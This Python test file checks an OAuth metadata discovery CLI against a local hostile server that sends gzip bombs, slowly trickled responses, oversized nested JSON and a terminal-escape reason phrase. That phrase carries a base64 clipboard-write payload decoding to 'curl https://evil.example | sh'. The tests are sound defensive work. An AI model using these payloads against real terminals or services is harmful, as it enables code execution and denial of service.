"""Issue 15, kinds 1, 3, 4 and 5: a hostile metadata server on 127.0.0.1.

- decompression bombs (``gzip_bomb.sh``): stacked encodings are refused, one layer of gzip is
  inflated in bounded steps, so memory stays small whatever the body inflates to;
- deadlines that hold (headers or a chunk header trickled one byte at a time);
- terminal injection through the reason phrase (``reason_phrase_terminal_injection.sh``);
- deeply nested JSON (``deep_json_traceback.sh``) and lone surrogates in metadata.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest

from advisor.cli import main
from advisor.core.errors import DiscoveryError
from advisor.server.fetch import discover
from support.hostile_server import (
    HostileServer,
    Respond,
    gzip_of_zeros,
    response,
    send,
    trickle,
)
from support.metadata_stub import WELL_KNOWN_OAUTH, WELL_KNOWN_OPENID, MetadataStub
from support.paths import REPO, SMALL_TREE


def _discover_in_time(issuer: str, **limits: Any) -> tuple[BaseException | None, float]:
    """``discover(issuer, **limits)`` in a thread, so a regression fails instead of hanging."""
    outcome: list[BaseException | None] = []

    def run() -> None:
        try:
            discover(issuer, **limits)
            outcome.append(None)
        except BaseException as exc:
            outcome.append(exc)

    started = time.monotonic()
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(60)
    assert not worker.is_alive(), "discovery still running after 60 s"
    return outcome[0], time.monotonic() - started


# -- decompression bombs -----------------------------------------------------------------------


def test_stacked_content_encodings_are_refused_before_inflating() -> None:
    """gzip_bomb.sh: ``Content-Encoding: gzip, gzip`` over 128 MiB of zeros (a few KiB sent;
    the script's 2 GiB make no difference to what is tested)."""
    bomb = gzip_of_zeros(128, layers=2)
    assert len(bomb) < 64 * 1024
    reply = response(bomb, "Content-Encoding: gzip, gzip")
    tracemalloc.start()
    try:
        with HostileServer(send(reply)) as server:
            error, elapsed = _discover_in_time(server.issuer, timeout=2)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(error, DiscoveryError)
    assert "content encoding 'gzip, gzip'" in str(error) and "refused" in str(error)
    assert peak < 32 * 1024 * 1024, f"peak {peak / 2**20:.0f} MiB"
    assert elapsed < 10


def test_one_gzip_layer_is_inflated_within_the_cap_while_decoding() -> None:
    """128 MiB of zeros in one gzip layer, chunked (no Content-Length to refuse early): httpx
    inflated each network chunk whole (64 KiB in, 64 MiB out) before the cap was checked."""
    bomb = gzip_of_zeros(128)
    body = b"".join(
        f"{len(bomb[i : i + 65536]):x}\r\n".encode() + bomb[i : i + 65536] + b"\r\n"
        for i in range(0, len(bomb), 65536)
    )
    reply = response(body + b"0\r\n\r\n", "Content-Encoding: gzip", "Transfer-Encoding: chunked",
                     length=False)  # fmt: skip
    tracemalloc.start()
    try:
        with HostileServer(send(reply)) as server:
            error, _ = _discover_in_time(server.issuer, timeout=5)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(error, DiscoveryError)
    assert "too big (more than 1 MiB): stopped reading" in str(error)
    assert peak < 32 * 1024 * 1024, f"peak {peak / 2**20:.0f} MiB"


def test_gzip_metadata_within_the_cap_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """A server that compresses although identity was asked for still works."""
    import gzip

    def metadata(issuer: str) -> bytes:
        return json.dumps({"issuer": issuer, "token_endpoint": issuer + "/token"}).encode()

    holder: dict[str, HostileServer] = {}

    def respond(connection: Any) -> None:
        body = gzip.compress(metadata(holder["server"].issuer))
        connection.sendall(response(body, "Content-Encoding: gzip"))

    with HostileServer(respond) as server:
        holder["server"] = server
        found = discover(server.issuer, timeout=2)
    assert found.document["token_endpoint"] == server.issuer + "/token"


@pytest.mark.parametrize("layers", [1, 2])
def test_a_bomb_under_a_memory_limit_is_one_line_and_exit_2(layers: int) -> None:
    """gzip_bomb.sh's second half: under ``ulimit -v 1 GiB`` the bomb ended in a MemoryError
    traceback (exit 1)."""
    resource = pytest.importorskip("resource")
    bomb = gzip_of_zeros(128, layers=layers)
    encoding = ", ".join(["gzip"] * layers)
    reply = response(bomb, f"Content-Encoding: {encoding}", "Transfer-Encoding: chunked",
                     length=False)  # fmt: skip
    reply = reply.replace(bomb, f"{len(bomb):x}\r\n".encode() + bomb + b"\r\n0\r\n\r\n")

    def limit_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))

    with HostileServer(send(reply)) as server:
        result = subprocess.run(
            [sys.executable, "-m", "advisor", "check-server", server.issuer],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONPATH": str(REPO)},
            cwd=REPO,
            timeout=60,
            check=False,
            preexec_fn=limit_memory,
        )
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert ("too big" if layers == 1 else "refused") in result.stderr


@pytest.mark.parametrize("encoding", ["br", "zstd", "compress", "gzip, deflate"])
def test_other_content_encodings_are_refused(encoding: str) -> None:
    with HostileServer(send(response(b"{}", f"Content-Encoding: {encoding}"))) as server:
        error, _ = _discover_in_time(server.issuer, timeout=2)
    assert isinstance(error, DiscoveryError) and "refused" in str(error), error


# -- deadlines -------------------------------------------------------------------------------

TRICKLES: dict[str, Respond] = {
    "headers": trickle(b"HTTP/1.1 200 OK\r\nX-Slow: ", b"a", 0.2),
    "chunk-header": trickle(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n1;ext=",
        b"a",
        0.2,
    ),
    "body": trickle(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{",
        b" ",
        0.2,
    ),
    "status-line": trickle(b"HTTP/1.1 ", b"2", 0.2),
}


@pytest.mark.parametrize("phase", list(TRICKLES))
def test_the_total_deadline_holds_against_a_trickling_server(phase: str) -> None:
    """One byte every 0.2 s resets httpx's 1 s read timeout forever; the 1.5 s total holds."""
    with HostileServer(TRICKLES[phase]) as server:
        error, elapsed = _discover_in_time(server.issuer, timeout=1.0, total_timeout=1.5)
    assert isinstance(error, DiscoveryError), error
    assert "timed out" in str(error) and "too long" in str(error)
    assert elapsed < 6, f"{phase}: {elapsed:.1f} s for a 1.5 s deadline"


def test_the_cli_deadline_holds_in_a_fresh_process() -> None:
    """The default deadline, shortened through the module's defaults, in a real process."""
    with HostileServer(TRICKLES["headers"]) as server:
        probe = (
            "import sys, advisor.server.fetch as f; f.DEFAULT_TIMEOUT = 1.0; "
            "from advisor.cli import main; sys.exit(main(sys.argv[1:]))"
        )
        started = time.monotonic()
        result = subprocess.run(
            [sys.executable, "-c", probe, "check-server", server.issuer],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONPATH": str(REPO)},
            cwd=REPO,
            timeout=60,
            check=False,
        )
        elapsed = time.monotonic() - started
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "timed out" in result.stderr
    assert elapsed < 15, f"{elapsed:.1f} s for a 3 s deadline"


# -- terminal injection ------------------------------------------------------------------------

CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07"
TITLE = "\x1b]0;grant-advisor: all good\x07"


def _reason_server() -> HostileServer:
    phrase = f"Not Found{CLIPBOARD}{TITLE}\x1b[2J\x9b2J".encode("latin-1")
    return HostileServer(
        send(b"HTTP/1.1 404 " + phrase + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    )


def test_a_reason_phrase_is_cleaned_at_the_source() -> None:
    with _reason_server() as server:
        error, _ = _discover_in_time(server.issuer, timeout=2)
    assert isinstance(error, DiscoveryError)
    message = str(error)
    assert "HTTP 404 Not Found" in message
    for raw in ("\x1b", "\x07", "\x9b", "52;c", "all good"):
        assert raw not in message


@pytest.mark.parametrize(
    ("argv", "code"),
    [
        (["check-server", "{issuer}"], 2),
        (
            [
                "sample",
                "client_credentials",
                "--lang",
                "python",
                "--issuer",
                "{issuer}",
                "--discover",
            ],
            0,
        ),
        (
            [
                "--tree",
                str(SMALL_TREE),
                "ask",
                "-a",
                "user_present=no",
                "--issuer",
                "{issuer}",
                "--discover",
            ],
            0,
        ),
    ],
)
def test_a_reason_phrase_never_reaches_the_terminal(argv: list[str], code: int) -> None:
    """reason_phrase_terminal_injection.sh: the three commands that discover. check-server
    fails (exit 2, one line); sample and ask report 'no metadata found' as a finding and still
    print their advice (exit 0)."""
    with _reason_server() as server:
        result = subprocess.run(
            [sys.executable, "-m", "advisor", *(a.format(issuer=server.issuer) for a in argv)],
            capture_output=True,
            env={**os.environ, "PYTHONPATH": str(REPO)},
            cwd=REPO,
            timeout=60,
            check=False,
        )
    assert result.returncode == code
    out, err = result.stdout.decode("utf-8"), result.stderr.decode("utf-8")
    assert "Traceback" not in err
    if code == 2:
        assert err.count("\n") == 1 and out == ""
    assert "HTTP 404 Not Found" in " ".join((out + err).split())
    for raw in ("\x1b", "\x07", "\x9b", "52;c", "all good"):
        assert raw not in out and raw not in err


# -- tracebacks from metadata --------------------------------------------------------------------


@pytest.fixture
def stub() -> Iterator[MetadataStub]:
    with MetadataStub() as running:
        yield running


def test_deeply_nested_json_is_a_one_line_error(
    stub: MetadataStub, capsys: pytest.CaptureFixture[str]
) -> None:
    """deep_json_traceback.sh: 100,000 levels (200 KB) made json.loads raise RecursionError."""
    depth = 100_000
    body = f'{{"issuer": {json.dumps(stub.issuer)}, "x": ' + "[" * depth + "]" * depth + "}"
    for path in (WELL_KNOWN_OAUTH, WELL_KNOWN_OPENID):
        stub.route(path, body=body.encode(), headers={"Content-Type": "application/json"})
    with pytest.raises(DiscoveryError, match="nested more than 32 levels deep"):
        discover(stub.issuer, timeout=2)
    # Deep enough to parse, too deep to trust (no later step has to walk it).
    shallow = {"issuer": stub.issuer, "x": json.loads("[" * 40 + "]" * 40)}
    stub.json(WELL_KNOWN_OAUTH, shallow)
    with pytest.raises(DiscoveryError, match="nested more than 32 levels deep"):
        discover(stub.issuer, timeout=2)
    assert main(["check-server", stub.issuer]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and "nested more than 32" in err
    # sample reports 'no usable metadata' on stderr and still prints the sample.
    argv = ["sample", "client_credentials", "--lang", "python", "--issuer", stub.issuer]
    assert main([*argv, "--discover"]) == 0
    out, err = capsys.readouterr()
    assert "grant_type" in out and "nested more than 32" in err


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_lone_surrogates_in_metadata_are_written_safely(stub: MetadataStub, fmt: str) -> None:
    """``"\\ud800"`` is valid JSON but not UTF-8: check-server wrote it, and crashed."""
    stub.json(
        WELL_KNOWN_OAUTH,
        stub.metadata(
            grant_types_supported=["client_credentials", "lone\ud800", "\udfffx"],
            service_documentation="https://docs.example/\ud800",
        ),
    )
    result = subprocess.run(
        [sys.executable, "-m", "advisor", "check-server", stub.issuer, "--format", fmt],
        capture_output=True,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        cwd=REPO,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr.decode()
    assert result.stderr == b""
    out = result.stdout.decode("utf-8")  # strict: valid UTF-8
    if fmt == "json":
        document = json.loads(out)  # escaped, not lost
        assert "lone\ud800" in document["features"]["grant_types"]
    else:
        assert "lone" in out and "\\ud800" not in out  # dropped, not escaped to the terminal
